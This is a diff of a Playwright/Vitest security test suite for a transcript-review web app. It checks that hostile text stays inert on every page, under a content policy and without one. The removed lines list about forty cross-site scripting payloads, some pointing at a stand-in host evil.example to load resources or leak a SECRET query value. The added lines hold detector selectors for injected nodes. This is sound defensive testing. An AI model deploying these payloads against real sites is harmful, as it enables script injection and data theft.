@@ -1,130 +1,150 @@
-import type { Browser } from 'playwright-core'
+import Database from 'better-sqlite3'
+import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { BundleRecord } from '@/lib/bundle/record'
 import { caseLink, modelLink, runLink, transcriptLink } from '@/lib/links/links'
 import { transcriptId } from '@/lib/transcripts/transcript-id'
-import { openBrowser, openDesk } from '@/tests/support/browser'
-import { aCase, aFinding, agentCalls, agentSays, aJudgement, aModel, anAnchor, aReview, aRun, aSuite, aTag, customerSays, toolAnswers } from '@/tests/support/builders'
+import { openBrowser, openDesk, type Desk } from '@/tests/support/browser'
+import { CASE, hostileBundle, MODEL_SLUG, plantHostileRows, RUN, SUITE } from '@/tests/support/hostile-bundle'
+import { ALL_PAYLOADS, PAYLOADS, X } from '@/tests/support/hostile-payloads'
 import { loadRecords } from '@/tests/support/load'
 import { startServer, type RunningServer } from '@/tests/support/server'
 
 // Text of transcripts, names, tags and notes is written by models and strangers. It must be seen as it was written and do nothing,
 // with the content policy and, so that the policy hides no hole, without it.
 
-const X = 'window.__xss=1'
-const EVIL = 'https://evil.example'
+const inSuite = `suite=${encodeURIComponent(SUITE)}`
+const query = encodeURIComponent(ALL_PAYLOADS.slice(0, 1500))
 
-/** Payloads by the catalogue's numbers; each runs, or calls a foreign host, where text is taken for markup, a link or a style. */
-const PAYLOADS: Record<string, string> = {
-  X01: `<script>${X}</script>`,
-  X02: `</script><script>${X}</script>`,
-  X03: `<!--<script>--> ]]> -->`,
-  X04: `<img src=x onerror=${X}>`,
-  X05: `<svg onload=${X}><svg/onload=${X}//`,
-  X06: `<svg><script href="data:text/javascript,${X}"/></svg>`,
-  X07: `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
-  X08: `<math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
-  X09: `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
-  X10: `<xmp><p title="</xmp><img src=x onerror=${X}>"><textarea><title><plaintext>`,
-  X11: `<iframe srcdoc="<script>parent.${X}</script>">`,
-  X12: `<iframe src="javascript:parent.${X}">`,
-  X13: `<details open ontoggle=${X}>`,
-  X14: `<video><source onerror=${X}></video><audio src onerror=${X}>`,
-  X15: `<input autofocus onfocus=${X}><select autofocus onfocus=${X}>`,
-  X16: `<a href="javascript:${X}">c</a>`,
-  X18: `<a href="data:text/html,<script>${X}</script>">d</a>`,
-  X19: `<form action="javascript:${X}"><button>OK</button></form>`,
-  X20: `<object data="javascript:${X}"></object><embed src="javascript:${X}">`,
-  X21: `<base href="${EVIL}/">`,
-  X22: `<meta http-equiv=refresh content="0;url=${EVIL}">`,
-  X23: `<link rel=stylesheet href=${EVIL}/x.css><link rel=prefetch href=${EVIL}/y>`,
-  X24: `<style>@import "${EVIL}/x";*{display:none}</style>`,
-  X25: `<div style="position:fixed;inset:0;background:url(${EVIL}/b)">`,
-  X26: `<img src="${EVIL}/p.png?d=1" srcset="${EVIL}/q 1x">`,
-  X28: `<form id=document><input name=cookie></form><img name=currentScript><a id=__next_f>`,
-  X29: `x}*{background:red}/* </style><script>${X}</script>`,
-  X31: `[c](javascript:${X})`,
-  X33: `![a](${EVIL}/x.png?q=SECRET)`,
-  X35: `<javascript:${X}> <${EVIL}> www.evil.example`,
-  X38: `\`\`\`js onload=${X}\n<img src=x onerror=${X}>\n\`\`\``,
-  X41: `{{constructor.constructor('${X}')()}} \${${X}} <%= ${X} %>`,
-  X42: `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${X}>"}}}`,
-  X43: `"onmouseover="${X}" '><img src=x onerror=${X}>`,
-  X44: `</title><script>${X}</script></option></textarea>`,
-  X49: `<template shadowrootmode=open><img src=x onerror=${X}></template>`,
-  X50: `<x is=y onpointerover=${X} tabindex=1 onfocus=${X} autofocus>`,
-  X58: `&lt;script&gt; &amp;amp; &#x3c;script&#x3e;${X}`,
-}
-const ALL = Object.entries(PAYLOADS).map(([number, text]) => `${number} ${text}`).join('\n')
-const FORBIDDEN = 'script:not([nonce]), iframe, object, embed, base, math, audio, video, meta[http-equiv=refresh], [srcdoc]'
-
-function hostileBundle(): BundleRecord[] {
-  const suite = `s ${PAYLOADS.X04}`
-  const name = (what: string): string => `${what} ${PAYLOADS.X02}${PAYLOADS.X04}${PAYLOADS.X43}`
-  const messages = [
-    { role: 'system', content: ALL },
-    customerSays(ALL),
-    agentSays(ALL),
-    agentCalls({ id: name('call'), name: name('tool'), arguments: { [name('key')]: ALL, list: Object.values(PAYLOADS), deep: { __html: PAYLOADS.X04, $$typeof: 'x' } }, effect: 'write' }, { id: 'k2', name: 'raw', arguments: ALL }),
-    toolAnswers(name('call'), name('tool'), { [name('key')]: ALL, text: Object.values(PAYLOADS) }),
-    { role: name('role'), content: ALL },
-    ...Object.values(PAYLOADS).map((payload, index) => (index % 2 === 0 ? customerSays(payload) : agentSays(payload))),
-  ]
-  return [
-    aSuite({ id: suite, name: name('suite'), description: ALL, clusters: [{ id: name('c'), title: name('cluster'), intents: [name('intent')] }] }),
-    aCase({ suite, id: name('case'), title: name('title'), intent: name('intent'), brief: ALL, policy: ALL, expected: { [name('k')]: ALL }, forbidden_actions: [name('f')], required_actions: [name('r')], confirm_before: [name('b')] }),
-    aModel({ id: name('model'), name: name('model'), slug: 'hostile', family: name('family'), vendor: name('vendor') }),
-    aRun({ id: name('run'), suite, model: name('model'), notes: ALL, settings: { [name('s')]: ALL } }),
-    { type: 'transcript', run: name('run'), case: name('case'), ended: 'error', messages, error: ALL },
-    aJudgement({ pass: name('pass'), run: name('run'), case: name('case'), judge: name('judge'), rationale: ALL, resolved: false, unsafe_actions: [{ action: name('a'), message: 3 }], evidence: [{ message: 1, quote: PAYLOADS.X04 ?? '', note: ALL }], checks: [{ name: name('check'), kind: name('kind'), passed: false, counted: true, rationale: ALL }] }),
-    aTag({ id: name('tag'), name: name('tag'), description: ALL }),
-    aFinding({ id: 'hostile-finding', run: name('run'), case: name('case'), tag: name('tag'), note: ALL, correct_behaviour: ALL, author: name('author'), anchors: [anAnchor({ message: 1, part: 'content', quote: `X04 ${PAYLOADS.X04}` })] }),
-    aReview({ run: name('run'), case: name('case'), reviewer: name('reviewer'), note: ALL }),
-  ]
-}
-
-const records = hostileBundle()
-const run = `run ${PAYLOADS.X02}${PAYLOADS.X04}${PAYLOADS.X43}`
-const caseId = run.replace('run', 'case')
-const suite = `s ${PAYLOADS.X04}`
-const PLACES = [
-  transcriptLink(transcriptId(run, caseId)), runLink(run), caseLink(suite, caseId), modelLink('hostile', suite), `/eval?suite=${encodeURIComponent(suite)}`, '/runs', `/cases?suite=${encodeURIComponent(suite)}`, '/transcripts', '/findings', '/tags', '/review', '/import', '/settings/audit',
-  `/runs?q=${encodeURIComponent(ALL.slice(0, 1500))}`, `/findings?q=${encodeURIComponent(PAYLOADS.X04 ?? '')}&tag=${encodeURIComponent(PAYLOADS.X02 ?? '')}`, `/sign-in?next=${encodeURIComponent(`javascript:${X}`)}&error=${encodeURIComponent(PAYLOADS.X04 ?? '')}`,
+/** Every page that shows what somebody else wrote. `pages`: the list's pages that together show something named by each payload. */
+const PLACES: { path: string; pages?: number }[] = [
+  { path: transcriptLink(transcriptId(RUN, CASE)), pages: 1 }, { path: runLink(RUN) }, { path: caseLink(SUITE, CASE) }, { path: modelLink(MODEL_SLUG, SUITE) }, { path: `/eval?${inSuite}`, pages: 1 },
+  { path: '/runs', pages: 2 }, { path: `/cases?${inSuite}`, pages: 1 }, { path: '/transcripts', pages: 2 }, { path: '/findings', pages: 2 }, { path: '/tags', pages: 1 }, { path: '/review' },
+  { path: '/import', pages: 2 }, { path: '/import/h-X01', pages: 1 }, { path: '/settings/people', pages: 1 }, { path: '/settings/tokens', pages: 1 }, { path: '/settings/audit', pages: 1 }, { path: '/settings/account' }, { path: '/bench' },
+  { path: `/runs?q=${query}` }, { path: `/findings?q=${encodeURIComponent(PAYLOADS.X04 ?? '')}&tag=${encodeURIComponent(PAYLOADS.X02 ?? '')}` }, { path: `/nowhere/${encodeURIComponent(PAYLOADS.X04 ?? '')}` },
 ]
 
+let browser: Browser
+let server: RunningServer
+beforeAll(async () => {
+  browser = await openBrowser()
+  server = await startServer()
+  await loadRecords({ location: { kind: 'sqlite', file: server.databaseFile } }, hostileBundle())
+  const database = new Database(server.databaseFile)
+  plantHostileRows(database)
+  // The admin, too, is called by a payload: the frame shows it on every page.
+  database.prepare('UPDATE "User" SET "name" = ? WHERE "email" = ?').run(PAYLOADS.X43, server.people.admin)
+  database.close()
+})
+afterAll(async () => {
+  await browser.close()
+  await server.stop()
+})
+
+/** What of a page is not as text should be: what ran, whom it called, and what stands in it that only markup can have made. */
+async function faultsOf({ page, misdeeds }: Desk): Promise<string[]> {
+  const ran = await page.evaluate(() => Reflect.get(window, '__xss'))
+  return [...(ran === undefined ? [] : ['a payload ran']), ...misdeeds, ...(await page.evaluate(foreignNodes, ''))]
+}
+
+/** In the browser: nodes and attributes of this page, or of a page given as text, that no component of ours makes. */
+function foreignNodes(html: string): string[] {
+  const root = html === '' ? document : new DOMParser().parseFromString(html, 'text/html')
+  const found = [...root.querySelectorAll('iframe, object, embed, base, math, audio, video, marquee, noembed, xmp, plaintext, template[shadowrootmode], body :is(meta, style), [srcdoc], [ping], [formaction], [src*="evil.example"], [srcset], [style*="evil"]')]
+  // A script in the page carries the nonce; what those load later comes from the build's own folder.
+  for (const script of root.querySelectorAll('script')) if (script.getAttribute('src')?.startsWith('/_next/static/') !== true && script.nonce === '' && !script.hasAttribute('nonce')) found.push(script)
+  for (const element of root.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on') || (/^(href|action|src|xlink:href)$/.test(name) && /^[\s\p{Cc}]*([a-z]+:|\/\/)/iu.test(value))) found.push(element)
+    }
+  }
+  return found.map((element) => `foreign node: ${element.outerHTML.slice(0, 160)}`)
+}
+
+/** Opens what is folded and goes over everything that shows a tip. */
+async function touchEverything(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    for (const each of document.querySelectorAll('details')) each.open = true
+    for (const each of document.querySelectorAll('[data-tip], main [tabindex], summary, a')) for (const kind of ['pointerover', 'mouseover', 'focusin']) each.dispatchEvent(new PointerEvent(kind, { bubbles: true }))
+  })
+  await page.waitForTimeout(150)
+}
+
+/** The text of a page's content without what names an invisible character. */
+function contentText(page: Page): Promise<string> {
+  return page.evaluate(() => {
+    const copy = document.querySelector('main')?.cloneNode(true)
+    if (!(copy instanceof Element)) return ''
+    for (const each of copy.querySelectorAll('.iv')) each.remove()
+    return [copy.textContent, ...[...copy.querySelectorAll('input, textarea')].map((each) => each.getAttribute('value'))].join(' ')
+  })
+}
+
+/** Text by which two spellings are the same to somebody who reads: without spaces and what cannot be seen. */
+const asRead = (text: string): string => text.replace(/[\s\p{Cc}\p{Cf}\ufffd]|\\u[0-9a-f]{4}|\\[nrt"\\]/giu, '')
+
 describe.each([{ policy: 'on' }, { policy: 'off' }] as const)('hostile text, content policy $policy', ({ policy }) => {
-  let browser: Browser
-  let server: RunningServer
-  beforeAll(async () => {
-    browser = await openBrowser()
-    server = await startServer()
-    await loadRecords({ location: { kind: 'sqlite', file: server.databaseFile } }, records)
-  })
-  afterAll(async () => {
-    await browser.close()
-    await server.stop()
+  let desk: Desk
+  beforeAll(async () => { desk = await openDesk(browser, server, { ignorePolicy: policy === 'off' }) })
+  afterAll(() => desk.context.close())
+
+  it.each(PLACES)('runs nothing, calls nobody and hides nothing on $path', async ({ path, pages }) => {
+    let text = ''
+    for (let page = 1; page <= (pages ?? 1); page++) {
+      desk.misdeeds.length = 0
+      const answer = await desk.page.goto(page === 1 ? path : `${path}${path.includes('?') ? '&' : '?'}page=${page}`)
+      expect([200, 404]).toContain(answer?.status())
+      await touchEverything(desk.page)
+      expect((await faultsOf(desk)).filter((fault) => !(answer?.status() === 404 && fault.includes('status of 404')))).toEqual([])
+      text += await contentText(desk.page)
+    }
+    if (pages === undefined) return
+    const read = asRead(text)
+    expect(Object.keys(PAYLOADS).filter((number) => !read.includes(asRead(PAYLOADS[number] ?? '')))).toEqual([])
   })
 
-  it.each(PLACES)('runs nothing and calls nobody on %s', async (place) => {
-    const desk = await openDesk(browser, server, { ignorePolicy: policy === 'off' })
+  it('runs nothing in what the search finds', async () => {
+    await desk.page.goto('/settings/about')
     desk.misdeeds.length = 0
-    const answer = await desk.page.goto(place)
-    expect(answer?.status()).toBe(200)
-    await desk.page.evaluate(() => { for (const each of document.querySelectorAll('details')) each.open = true })
-    for (const each of await desk.page.locator('main [tabindex], main summary').all()) await each.hover({ timeout: 500, force: true }).catch(() => undefined)
-    await desk.page.waitForTimeout(300)
-    expect(await desk.page.evaluate(() => Reflect.get(window, '__xss'))).toBeUndefined()
-    expect(desk.misdeeds).toEqual([])
-    expect(await desk.page.evaluate((selector) => [...document.querySelectorAll(`main :is(${selector})`)].map((each) => each.outerHTML.slice(0, 120)), FORBIDDEN)).toEqual([])
-    expect(await desk.page.evaluate(() => [...document.querySelectorAll('a[href], form[action]')].map((each) => each.getAttribute('href') ?? each.getAttribute('action') ?? '').filter((target) => /^\s*(javascript|data|vbscript):/i.test(target)))).toEqual([])
-    await desk.context.close()
+    await desk.page.keyboard.press('Control+k')
+    await desk.page.getByPlaceholder('Page, model, run').fill('onerror')
+    await desk.page.getByRole('option').nth(3).waitFor()
+    expect(await faultsOf(desk)).toEqual([])
   })
 
-  it('shows every payload of a message literally', async () => {
-    const desk = await openDesk(browser, server, { ignorePolicy: policy === 'off' })
-    await desk.page.goto(PLACES[0] ?? '')
-    const text = await desk.page.evaluate(() => document.querySelector('main')?.textContent ?? '')
-    for (const [number, payload] of Object.entries(PAYLOADS)) expect(text.includes(payload), `${number} is not shown as it was written`).toBe(true)
+  it('would be noticed if it were taken for markup', async () => {
+    await desk.page.goto('/settings/about')
+    for (const [number, payload] of Object.entries(PAYLOADS).filter(([number]) => ['X01', 'X04', 'X05', 'X11', 'X16', 'X18', 'X21', 'X24', 'X26', 'X43'].includes(number))) {
+      desk.misdeeds.length = 0
+      await desk.page.evaluate((markup) => document.querySelector('main')?.insertAdjacentHTML('beforeend', markup), payload)
+      expect([number, (await faultsOf(desk)).length > 0]).toEqual([number, true])
+      await desk.page.evaluate(() => { document.querySelector('main')?.replaceChildren() })
+    }
+    if (policy === 'off') {
+      await desk.page.evaluate((markup) => document.querySelector('main')?.insertAdjacentHTML('beforeend', markup), `<img src="/nothing.png" onerror="${X}">`)
+      await desk.page.waitForFunction(() => Reflect.get(window, '__xss') === 1)
+    }
+  })
+})
+
+describe('an address', () => {
+  const addresses = (value: string): string[] => [`/sign-in?next=${value}&error=${value}`, `/runs?q=${value}&sort=${value}&page=${value}&cols=${value}`, `/settings/audit?actor=${value}&from=${value}`, `/transcripts/${value}`]
+
+  /** The payloads again, as many in one text as a parameter keeps of it. */
+  const pieces = Object.values(PAYLOADS).reduce<string[]>((sofar, payload) => {
+    const last = sofar.at(-1)
+    return last !== undefined && last.length + payload.length <= 190 ? [...sofar.slice(0, -1), last + payload] : [...sofar, payload.slice(0, 190)]
+  }, [])
+
+  it('that holds a payload in a parameter or a part makes no markup of it (X53)', async () => {
+    const desk = await openDesk(browser, server)
+    await desk.page.goto('/settings/about')
+    for (const piece of pieces) {
+      const found = await desk.page.evaluate((all) => Promise.all(all.map(async (address) => {
+        const answer = await fetch(address)
+        return answer.status < 500 ? answer.text() : `<iframe title="${answer.status}">`
+      })), addresses(encodeURIComponent(piece)))
+      for (const html of found) expect([piece, await desk.page.evaluate(foreignNodes, html)]).toEqual([piece, []])
+    }
     await desk.context.close()
   })
 })
